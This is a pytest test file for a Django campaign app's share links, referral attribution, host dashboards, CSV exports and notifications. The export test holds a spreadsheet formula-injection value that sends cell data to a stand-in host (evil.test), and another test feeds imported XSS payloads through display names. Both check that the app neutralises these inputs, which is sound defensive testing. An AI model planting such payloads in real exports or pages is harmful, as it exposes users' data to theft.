"""Share links through the pages: visits, first touch, attribution after log-in, the share
panel, the hosts' dashboard and its exports, notifications."""

import csv
import io
import json
import uuid
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from essaim.accounts.tests.factories import UserFactory
from essaim.campaigns.models import CampaignHost, EventResult, Signature
from essaim.campaigns.tests.factories import (
    ChallengeFactory,
    EventFactory,
    FundraiserFactory,
    PledgeFactory,
)
from essaim.core.tests.svg import SVG_NAMESPACE, svg_root_tag
from essaim.core.tests.xss import XSS_PAYLOADS, dangerous_markup
from essaim.notifications.models import Notification
from essaim.notifications.services import notify
from essaim.relay import analytics
from essaim.relay.models import LinkVisit, ShareLink, Supporter
from essaim.relay.services import link_for, supporter_record, visit_record

pytestmark = pytest.mark.django_db


def go(client: Client, code: str, **extra: Any) -> Any:
    return client.get(reverse("relay:go", args=[code]), **extra)


def test_a_share_link_counts_unique_visitors_without_their_address(client):
    pledge = PledgeFactory.create()
    link = link_for(user=UserFactory.create(), campaign=pledge.campaign)
    response = go(client, link.code, REMOTE_ADDR="203.0.113.9")
    assert (
        response.status_code == 302 and response["Location"] == pledge.campaign.get_absolute_url()
    )
    go(client, link.code, REMOTE_ADDR="203.0.113.9")
    go(Client(), link.code, REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT="Other browser")
    go(Client(), link.code, REMOTE_ADDR="198.51.100.4")
    visitors = list(LinkVisit.objects.filter(link=link).values_list("visitor", flat=True))
    assert len(visitors) == 3
    assert not any("203.0.113.9" in visitor or "198.51.100" in visitor for visitor in visitors)
    owner = Client()
    assert link.owner is not None
    owner.force_login(link.owner)
    go(owner, link.code)
    assert LinkVisit.objects.filter(link=link).count() == 3  # the owner's own click


@pytest.mark.django_db(transaction=True)  # in autocommit, as a request runs
def test_a_new_visitor_is_counted_with_one_insert_and_a_deleted_link_counts_nothing():
    link = link_for(user=UserFactory.create(), campaign=PledgeFactory.create().campaign)
    with CaptureQueriesContext(connection) as queries:
        assert visit_record(link=link, visitor="anon:203.0.113.9|ua")
    assert [query["sql"].split()[0] for query in queries.captured_queries] == ["INSERT"]
    assert not visit_record(link=link, visitor="anon:203.0.113.9|ua")  # the same visitor
    assert LinkVisit.objects.filter(link=link).count() == 1
    ShareLink.objects.filter(pk=link.pk).delete()  # resolved, then deleted by its owner
    # No 500 for the visitor: the insert's foreign key fails and nothing is counted.
    assert not visit_record(link=link, visitor="anon:198.51.100.4|ua")


def test_unknown_links_are_404(client):
    assert go(client, "nope").status_code == 404
    assert client.get(reverse("relay:qr", args=["nope"])).status_code == 404


def test_the_first_link_is_credited_after_logging_in_and_only_once(client):
    pledge = PledgeFactory.create()
    first, second = UserFactory.create_batch(2)
    first_link = link_for(user=first, campaign=pledge.campaign)
    go(client, first_link.code)
    go(client, link_for(user=second, campaign=pledge.campaign).code)
    newcomer = UserFactory.create()
    client.force_login(newcomer)
    for _repeat in range(2):
        client.post(reverse("campaigns:sign", args=[pledge.campaign.slug]))
    supporter = Supporter.objects.get(user=newcomer)
    assert supporter.referrer == first and supporter.link == first_link
    assert supporter.source == Supporter.Source.LINK
    assert Signature.objects.get(user=newcomer).host is None  # a personal link, not a co-host


def test_a_co_host_code_credits_the_co_host(client):
    pledge = PledgeFactory.create()
    cohost = CampaignHost.objects.create(
        campaign=pledge.campaign, user=UserFactory.create(), status="accepted"
    )
    go(client, cohost.code)
    client.force_login(UserFactory.create())
    client.post(reverse("campaigns:sign", args=[pledge.campaign.slug]))
    assert Signature.objects.get().host == cohost
    supporter = Supporter.objects.get()
    assert supporter.source == Supporter.Source.COHOST and supporter.referrer == cohost.user


def test_attribution_ends_with_its_window(client, settings):
    settings.RELAY_ATTRIBUTION_DAYS = 0
    pledge = PledgeFactory.create()
    go(client, link_for(user=UserFactory.create(), campaign=pledge.campaign).code)
    client.force_login(UserFactory.create())
    client.post(reverse("campaigns:sign", args=[pledge.campaign.slug]))
    assert Supporter.objects.get().referrer is None


@pytest.mark.parametrize("action", ["join", "rsvp", "give"])
def test_every_action_records_the_referral(client, action):
    relay = UserFactory.create()
    data: dict[str, str]
    if action == "join":
        campaign = ChallengeFactory.create().campaign
        url, data = reverse("campaigns:challenge_join", args=[campaign.slug]), {}
    elif action == "rsvp":
        event = EventFactory.create()
        campaign = event.campaign
        url, data = reverse("campaigns:rsvp", args=[campaign.slug, event.pk]), {}
    else:
        campaign = FundraiserFactory.create().campaign
        url = reverse("campaigns:give", args=[campaign.slug])
        data = {"amount": "12", "idempotency_key": str(uuid.uuid4())}
    go(client, link_for(user=relay, campaign=campaign).code)
    person = UserFactory.create()
    client.force_login(person)
    client.post(url, data)
    supporter = Supporter.objects.get(user=person)
    assert supporter.referrer == relay and supporter.action == action


def test_supporters_get_their_share_panel_others_do_not(client):
    pledge = PledgeFactory.create()
    person = UserFactory.create()
    client.force_login(person)
    page = client.get(pledge.campaign.get_absolute_url()).content.decode()
    assert 'data-testid="share-panel"' not in page
    client.post(reverse("campaigns:sign", args=[pledge.campaign.slug]))
    page = client.get(pledge.campaign.get_absolute_url()).content.decode()
    code = link_for(user=person, campaign=pledge.campaign).code
    assert 'data-testid="share-panel"' in page and f"/r/{code}" in page
    assert "https://wa.me/?text=" in page
    qr = client.get(reverse("relay:qr", args=[code]))
    assert qr["Content-Type"] == "image/svg+xml"
    assert svg_root_tag(qr.content) == f"{{{SVG_NAMESPACE}}}svg"


@pytest.fixture
def hosted():
    pledge = PledgeFactory.create()
    campaign = pledge.campaign
    relay, friend = UserFactory.create_batch(2)
    supporter_record(campaign=campaign, user=relay, action="sign")
    supporter_record(
        campaign=campaign, user=friend, action="sign", link=link_for(user=relay, campaign=campaign)
    )
    return campaign, relay


def test_the_dashboard_and_its_exports_are_for_hosts_only(client, hosted):
    campaign, relay = hosted
    dashboard = reverse("relay:dashboard", args=[campaign.slug])
    exports = [reverse("relay:export", args=[campaign.slug, name]) for name in analytics.TABLES]
    anonymous = client.get(dashboard)
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    for outsider in (UserFactory.create(), relay):  # a stranger, a supporter
        client.force_login(outsider)
        assert client.get(dashboard).status_code == 404
        assert all(client.get(url).status_code == 404 for url in exports)
    client.force_login(campaign.created_by)
    page = client.get(dashboard)
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-testid="referrals">1<' in html and "<svg" in html
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    relays = client.get(reverse("relay:export", args=[campaign.slug, "relays"])).content.decode()
    assert relays.splitlines()[1] == f"{relay.display_name},1,1,0"
    assert client.get(reverse("relay:export", args=[campaign.slug, "nope"])).status_code == 404


def test_exports_write_names_that_look_like_formulas_as_text(client):
    pledge = PledgeFactory.create()
    campaign = pledge.campaign
    formula = '=HYPERLINK("http://evil.test/?"&A1,"Voir")'
    relay = UserFactory.create(display_name=formula)
    friend = UserFactory.create(display_name="@SUM(1+1)")
    supporter_record(campaign=campaign, user=relay, action="sign")
    supporter_record(
        campaign=campaign, user=friend, action="sign", link=link_for(user=relay, campaign=campaign)
    )
    client.force_login(campaign.created_by)
    for table in ("relays", "links"):
        text = client.get(reverse("relay:export", args=[campaign.slug, table])).content.decode()
        rows = list(csv.reader(io.StringIO(text)))
        names = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
        assert names == ["'" + formula], table


def test_the_public_sees_aggregate_counts_only(client, hosted):
    campaign, relay = hosted
    html = client.get(campaign.get_absolute_url()).content.decode()
    assert 'data-testid="public-reach"' in html
    assert relay.display_name not in html


def test_notifications_list_and_mark_read(client):
    person, other = UserFactory.create_batch(2)
    mine = notify(
        user=person,
        kind=Notification.Kind.RELAY_MILESTONE,
        key="k",
        params={"count": 5, "campaign": "Eau"},
    )
    theirs = notify(
        user=other,
        kind=Notification.Kind.RELAY_MILESTONE,
        key="k",
        params={"count": 1, "campaign": "Eau"},
    )
    assert mine and theirs
    assert notify(user=person, kind=Notification.Kind.RELAY_MILESTONE, key="k") is None
    client.force_login(person)
    page = client.get(reverse("notifications:list")).content.decode()
    assert 'data-testid="notification-count">1<' in page and "Eau" in page
    client.post(reverse("notifications:read", args=[theirs.pk]))
    theirs.refresh_from_db()
    assert theirs.read_at is None  # not mine to mark
    client.post(reverse("notifications:read_all"))
    mine.refresh_from_db()
    assert mine.read_at is not None
    assert (
        'data-testid="notification-count"'
        not in client.get(reverse("notifications:list")).content.decode()
    )


def test_names_with_xss_payloads_render_inert_on_the_dashboard_and_share_panel(client):
    pledge = PledgeFactory.create()
    campaign = pledge.campaign
    previous = None
    for payload in XSS_PAYLOADS:
        person = UserFactory.create(display_name=payload[:80])
        link = link_for(user=previous, campaign=campaign) if previous else None
        supporter_record(campaign=campaign, user=person, action="sign", link=link)
        previous = person
    client.force_login(campaign.created_by)
    for url in (reverse("relay:dashboard", args=[campaign.slug]), campaign.get_absolute_url()):
        html = client.get(url).content.decode()
        assert dangerous_markup(html, page=True) == [], url
    assert previous is not None
    client.force_login(previous)
    html = client.get(campaign.get_absolute_url()).content.decode()
    assert 'data-testid="share-panel"' in html and dangerous_markup(html, page=True) == []


def test_the_dashboard_shows_where_the_results_came_from(client):
    campaign = PledgeFactory.create().campaign
    past = timezone.now() - timedelta(days=3)
    canal = EventFactory.create(
        campaign=campaign,
        title="Ramassage du canal",
        city="Paris",
        postcode="75011",
        latitude=48.8600,
        longitude=2.3800,
        starts_at=past,
        ends_at=past + timedelta(hours=2),
    )
    EventResult.objects.create(event=canal, measure="litter", unit="kg", quantity=Decimal("42.50"))
    EventResult.objects.create(event=canal, measure="bags", unit="bags", quantity=Decimal("12"))
    rhone = EventFactory.create(
        campaign=campaign,
        title="Berges du Rhône",
        city="Lyon",
        postcode="69007",
        latitude=45.7500,
        longitude=4.8400,
        starts_at=past + timedelta(days=1),
        ends_at=past + timedelta(days=1, hours=2),
    )
    EventResult.objects.create(event=rhone, measure="litter", unit="kg", quantity=Decimal("8"))
    EventFactory.create(campaign=campaign, title="Sans résultat", latitude=48.85, longitude=2.35)
    EventResult.objects.create(
        event=EventFactory.create(title="Autre campagne"), measure="litter", unit="kg", quantity=1
    )
    client.force_login(campaign.created_by)
    html = client.get(reverse("relay:dashboard", args=[campaign.slug])).content.decode()
    # The map's markers are the events that reported results, and only those.
    assert 'data-map="impact-map"' in html
    markers = html.split('id="impact-map" type="application/json">')[1].split("</script>")[0]
    assert [marker["title"] for marker in json.loads(markers)] == [
        "Ramassage du canal",
        "Berges du Rhône",
    ]
    rows = csv.reader(
        io.StringIO(
            client.get(
                reverse("relay:export", args=[campaign.slug, "results-by-place"])
            ).content.decode()
        )
    )
    assert list(rows)[1:] == [
        [
            "Ramassage du canal",
            "Paris",
            "75011",
            timezone.localdate(past).isoformat(),
            "bags: 12 bags; litter: 42.5 kg",
        ],
        [
            "Berges du Rhône",
            "Lyon",
            "69007",
            timezone.localdate(past + timedelta(days=1)).isoformat(),
            "litter: 8 kg",
        ],
    ]
